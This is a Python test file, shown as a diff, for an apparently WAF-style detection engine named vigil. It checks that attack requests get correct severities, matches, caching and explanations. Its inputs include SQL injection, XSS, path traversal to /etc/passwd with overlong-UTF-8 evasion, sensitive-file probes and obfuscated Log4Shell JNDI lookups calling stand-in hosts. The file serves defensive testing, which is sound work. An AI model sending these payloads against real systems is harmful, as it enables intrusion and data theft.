@@ -1,0 +1,151 @@
+"""The detection stage over batches: verdict shape, targets, fragments, caching, explain."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from tests.detect.rules_support import detect, engine, rule_ids, shipped_rules
+from vigil.config import load_settings
+from vigil.detect.engine import DetectionEngine
+from vigil.detect.result import FRAGMENT_LIMIT
+from vigil.detect.samples import record_from_log_line, record_from_request
+
+BENIGN = "GET /products/select-comfort-mattress?color=blue&size=queen HTTP/1.1"
+
+
+def test_batch_verdicts_keep_order_and_length() -> None:
+    eng = engine()
+    requests = [BENIGN, "GET /x?id=1+or+1%3D1 HTTP/1.1", BENIGN, "GET /.git/config HTTP/1.1"]
+    records = [record_from_request(r, offset=i) for i, r in enumerate(requests)]
+    verdicts = eng.detect_batch(records)
+    assert [v.severity for v in verdicts] == ["LOW", "HIGH", "LOW", "MEDIUM"]
+    assert verdicts[0].score == 0.0 and not verdicts[0].matches
+    assert verdicts[3].categories == ("probe",)
+
+
+def test_matches_name_rule_target_fragment_and_points() -> None:
+    verdict = detect(engine(), "GET /item?id=5&name=x%27+UNION+SELECT+1%2C2-- HTTP/1.1")
+    union = next(m for m in verdict.matches if m.rule_id == "sqli-union-select")
+    assert union.target == "args:name"
+    assert union.fragment == " union select "
+    assert union.category == "sqli"
+    assert union.points == 5
+    assert verdict.severity == "HIGH"
+    assert verdict.points >= 10
+    assert verdict.to_dict()["matches"][0]["rule_id"]
+
+
+def test_fragments_are_truncated() -> None:
+    long_attack = "%3Cscript%3E" + "a" * 400 + "%3C%2Fscript%3E"
+    verdict = detect(engine(), f"GET /x?q={long_attack} HTTP/1.1")
+    assert verdict.matches
+    assert all(len(m.fragment) <= FRAGMENT_LIMIT for m in verdict.matches)
+
+
+def test_each_rule_counts_once_per_request() -> None:
+    one = detect(engine(), "GET /x?a=%3Cscript%3E HTTP/1.1")
+    two = detect(engine(), "GET /x?a=%3Cscript%3E&b=%3Cscript%3E HTTP/1.1")
+    assert len([m for m in two.matches if m.rule_id == "xss-script-tag"]) == 2
+    assert two.points == one.points
+
+
+def test_user_agent_and_path_targets() -> None:
+    verdict = detect(engine(), "GET /wp-config.php.bak HTTP/1.1", user_agent="sqlmap/1.7")
+    targets = {(m.rule_id, m.target) for m in verdict.matches}
+    assert ("scanner-attack-tool", "user_agent") in targets
+    assert ("probe-config-backup", "path") in targets
+
+
+def test_evasion_signals_are_reported_and_scored() -> None:
+    verdict = detect(engine(), "GET /download?f=..%c0%af..%c0%afetc%c0%afpasswd HTTP/1.1")
+    assert "overlong-utf8" in verdict.signals
+    assert "protocol-overlong-utf8" in rule_ids(verdict)
+    assert "lfi-dot-dot-slash" in rule_ids(verdict)
+
+
+def test_log4shell_obfuscations_in_headers() -> None:
+    eng = engine()
+    for agent in (
+        "${jndi:ldap://198.51.100.1/a}",
+        "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.example/a}",
+        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}",
+    ):
+        assert detect(eng, "GET / HTTP/1.1", user_agent=agent).severity == "HIGH", agent
+
+
+def test_malformed_request_line_and_tls_handshake() -> None:
+    line = (
+        '203.0.113.5 - - [10/Oct/2024:13:55:36 +0000] "\\x16\\x03\\x01\\x00\\xA5\\x01\\x00" '
+        '400 157 "-" "-"'
+    )
+    record = record_from_log_line(line)
+    assert record is not None and record.malformed
+    verdict = engine().detect_batch([record])[0]
+    assert {"protocol-malformed-request", "protocol-tls-handshake"} <= rule_ids(verdict)
+    assert "malformed-request" in verdict.signals
+    assert verdict.severity == "MEDIUM"
+
+
+def test_repeated_batches_give_identical_verdicts_from_the_caches() -> None:
+    eng = engine()
+    records = [
+        record_from_request(r)
+        for r in (BENIGN, "GET /x?q=%3Csvg%2Fonload%3Dalert(1)%3E HTTP/1.1", "GET /x?a=1 HTTP/1.1")
+    ]
+    first = eng.detect_batch(records)
+    second = eng.detect_batch(records)
+    assert first == second
+
+
+def test_caches_stay_bounded() -> None:
+    eng = DetectionEngine(shipped_rules(), cache_size=50)
+    records = [record_from_request(f"GET /item/{i}?id={i}&q=w{i} HTTP/1.1") for i in range(400)]
+    for start in range(0, 400, 100):
+        eng.detect_batch(records[start : start + 100])
+    assert all(len(cache) <= 100 for cache in eng._hits.values())
+    assert len(eng._queries) <= 100
+
+
+def test_explain_shows_decoded_targets_matches_and_score() -> None:
+    record = record_from_request("GET /item?id=1%2527%2520OR%25201%253D1-- HTTP/1.1")
+    explained = engine().explain(record)
+    arg = next(t for t in explained["targets"] if t["target"] == "args:id")
+    assert arg["decoded"] == "1' or 1=1--"
+    assert "double-encoding" in arg["signals"]
+    assert explained["severity"] == "HIGH"
+    assert any(m["rule_id"] == "sqli-tautology" for m in explained["matches"])
+
+
+def test_from_settings_reads_paranoia_disabled_rules_and_exclusions(tmp_path: Path) -> None:
+    exclusions = tmp_path / "exclusions.yaml"
+    exclusions.write_text("allow_ips: [192.0.2.0/24]\n", encoding="utf-8")
+    settings = load_settings(
+        paranoia_level=2, disabled_rules="probe-env-file", exclusions_file=exclusions
+    )
+    eng = DetectionEngine.from_settings(settings)
+    assert eng.paranoia_level == 2
+    assert not detect(eng, "GET /.env HTTP/1.1").matches
+    assert detect(eng, "GET /x?f=../../etc/passwd HTTP/1.1", client_ip="192.0.2.9").allowlisted
+
+
+def test_user_rule_directory_adds_rules(tmp_path: Path) -> None:
+    (tmp_path / "site.yaml").write_text(
+        """
+family: site
+rules:
+  - id: site-internal-debug-flag
+    name: Internal debug switch
+    category: probe
+    severity: critical
+    targets: [args_names]
+    transforms: [decode]
+    patterns: ['^__debug$']
+    examples:
+      must_match: ['GET /?__debug=1 HTTP/1.1']
+      must_not_match: ['GET /?debug=1 HTTP/1.1']
+""",
+        encoding="utf-8",
+    )
+    settings = load_settings(rules_dirs=str(tmp_path))
+    eng = DetectionEngine.from_settings(settings)
+    assert "site-internal-debug-flag" in rule_ids(detect(eng, "GET /?__debug=1 HTTP/1.1"))
